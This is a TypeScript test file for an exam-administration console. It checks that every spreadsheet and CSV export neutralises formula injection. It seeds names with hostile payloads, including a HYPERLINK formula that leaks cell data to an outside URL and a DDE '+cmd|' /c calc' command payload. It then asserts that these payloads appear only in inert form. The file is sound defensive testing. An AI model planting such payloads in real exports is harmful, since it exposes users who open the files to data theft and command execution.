// One cell writer for every spreadsheet the console produces (formula injection: = + - @ tab CR at
// the start of a text cell). Attack: a candidate, a staff member, the batch and a room named with
// formulas; every export is generated from that day and no cell of any of them starts a formula.
import { execFileSync } from 'node:child_process';
import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { toCsv } from '../../electron/services/cells';
import { formXlsx } from '../../electron/services/records/pdf';
import { summaryForm, yearlySummary } from '../../electron/services/records/summary';
import { sheetWorkbook } from '../../electron/services/checkin/paper';
import { readContext } from '../../electron/services/context';
import { arrangement, arrangementXlsx } from '../../electron/services/draw/paper';
import { reportWorkbook } from '../../electron/services/incidents/report';
import { planExportFiles } from '../../electron/services/plan/export';
import { writePlanWorkbook } from '../../electron/services/plan/writer';
import { confirmationWorkbook, publicationWorkbook } from '../../electron/services/publication/forms';
import { scoreSheetsWorkbook, summaryWorkbook } from '../../electron/services/results/forms';
import { scoreAllRaw, scoringDay, sealDay, signInAs, STAFF_PIN } from '../support/scoring-seed';
import { testConsole } from './helpers';

const FORMULA = /^[=+\-@\t\r]/;

async function cellTexts(buf: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer); // exceljs's typing predates Node's Buffer generics
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (typeof v === 'string') out.push(v);
        else if (v && typeof v === 'object' && 'richText' in v) out.push(v.richText.map((r) => r.text).join(''));
        else if (v && typeof v === 'object' && 'formula' in v) out.push(`=${String(v.formula)}`);
      }),
    ),
  );
  return out;
}

describe('every export neutralises formula cells', () => {
  test('the exports are all written through the one cell writer (no other writeBuffer/CSV writer in the console)', () => {
    const hits = execFileSync('grep', ['-rlE', 'xlsx\\.writeBuffer|xlsx\\.write\\(|csv\\.write', 'electron', 'scripts', '--include=*.ts'], { encoding: 'utf8' }).trim().split('\n');
    expect(hits).toEqual(['electron/services/cells.ts']);
    // every module that builds a worksheet is one this file exercises below
    const builders = execFileSync('grep', ['-rl', 'addWorksheet', 'electron', '--include=*.ts'], { encoding: 'utf8' }).trim().split('\n').sort();
    expect(builders).toEqual(
      [
        'electron/services/checkin/paper.ts',
        'electron/services/draw/paper.ts',
        'electron/services/incidents/report.ts',
        'electron/services/plan/writer.ts',
        'electron/services/publication/forms.ts',
        'electron/services/records/pdf.ts',
        'electron/services/results/forms.ts',
      ].sort(),
    );
  });

  test('CSV: each field neutralised and quoted', () => {
    expect(toCsv([['=1+1', '+SUM(A1)', '-2', '@x', '\tt', 'a,b', '正常']])).toBe(`'=1+1,'+SUM(A1),'-2,'@x,'\tt,"a,b",正常\r\n`);
  });

  test('attack: hostile names reach sign sheet, door list, arrangement, plan export, report, summary, score sheets, publication, confirmation and the yearly summary (A5); no cell starts a formula', async () => {
    const c = testConsole();
    const day = await scoringDay(c);
    const sqlite = c.app.env.opened.sqlite;
    scoreAllRaw(sqlite, day);
    sqlite.prepare(`UPDATE candidates SET name = '=HYPERLINK("http://x/"&A1,"点此")' || id`).run();
    sqlite.prepare(`UPDATE staff SET name = '@SUM(1+1)' || id WHERE staff_no <> 'H001'`).run();
    sqlite.prepare(`UPDATE batches SET name = '+cmd|'' /c calc''!A0'`).run();
    sqlite.prepare(`UPDATE rooms SET building = '-2+3'`).run();
    sqlite.prepare(`UPDATE occupations SET name = '-2+3' || name`).run();
    // the supervisor signs the 附件10 report with a hostile unit and opinion
    const supNo = (sqlite.prepare("SELECT s.staff_no AS n FROM staff s JOIN staff_roles r ON r.staff_id = s.id WHERE r.role = 'supervisor' LIMIT 1").get() as { n: string }).n;
    const sup = await signInAs(c, supNo, 'supervisor');
    const view = await c.ok<{ draft: { checklist: unknown } }>('report.get', { batchId: day.batchId }, sup);
    await c.ok('report.sign', { batchId: day.batchId, supervisorUnit: '=1+2', checklist: view.draft.checklist, opinion: '-考场秩序良好', issues: '@无', pin: STAFF_PIN }, sup);
    await sealDay(c, day);
    c.clock.set('2026-05-25T09:00:00+08:00');
    const head = (await c.ok<{ token: string }>('auth.signIn', { staffNo: 'H001', pin: '246810' })).token;
    const pub = await c.ok<{ id: number }>('results.publication.open', { batchId: day.batchId, startDate: '2026-05-25' }, head);
    c.clock.set('2026-06-01T09:00:00+08:00'); // the confirmation sheet is made after the period
    const ctx = readContext(c.app.env.opened, { clock: c.clock });
    const p0 = day.panels[0]!;
    const door = { sessionId: p0.sessionId, roomId: p0.roomId };
    const exports: Record<string, Buffer> = {
      signSheet: Buffer.from((await sheetWorkbook(ctx, { ...door, kind: 'signSheet' })).base64, 'base64'),
      doorList: Buffer.from((await sheetWorkbook(ctx, { ...door, kind: 'doorList' })).base64, 'base64'),
      arrangement: await arrangementXlsx(arrangement(ctx, day.batchId)),
      planExport: Buffer.from((await planExportFiles(sqlite, day.batchId, false)).data, 'base64'),
      planTemplate: await writePlanWorkbook(null),
      report: Buffer.from((await reportWorkbook(ctx, day.batchId)).base64, 'base64'),
      summary: await summaryWorkbook(sqlite, day.batchId),
      scoreSheets: await scoreSheetsWorkbook(sqlite, day.batchId, p0.subjectId),
      publication: await publicationWorkbook(ctx, day.batchId, pub.id),
      confirmation: await confirmationWorkbook(ctx, pub.id),
      // A5: the yearly summary's xlsx, the organisation's name as the site typed it
      yearlySummary: await formXlsx([summaryForm(yearlySummary(sqlite, 2026), '评价机构')]),
    };
    for (const [name, buf] of Object.entries(exports)) {
      const texts = await cellTexts(buf);
      expect(texts.filter((t) => FORMULA.test(t)), name).toEqual([]);
      // the hostile text reached the export, inert (except the blank template, which has no data)
      if (name !== 'planTemplate') expect(texts.some((t) => /'(=HYPERLINK|@SUM|\+cmd|-2\+3|=1\+2|-考场)/.test(t)), name).toBe(true);
    }
  }, 120_000);
});
